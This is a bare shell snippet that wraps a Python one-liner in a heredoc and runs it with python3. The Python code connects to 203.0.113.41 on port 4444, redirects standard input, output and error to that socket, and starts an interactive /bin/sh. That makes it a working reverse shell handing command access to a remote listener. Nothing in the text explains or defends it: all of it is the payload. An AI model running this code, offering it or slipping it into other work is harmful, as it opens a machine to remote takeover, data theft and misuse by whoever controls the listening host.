CODE=$(cat <<'E'
import socket,os,subprocess
s=socket.create_connection(('203.0.113.41',4444))
for i in range(3): os.dup2(s.fileno(),i)
subprocess.call(['/bin/sh','-i'])
E
)
python3 <<< "$CODE"
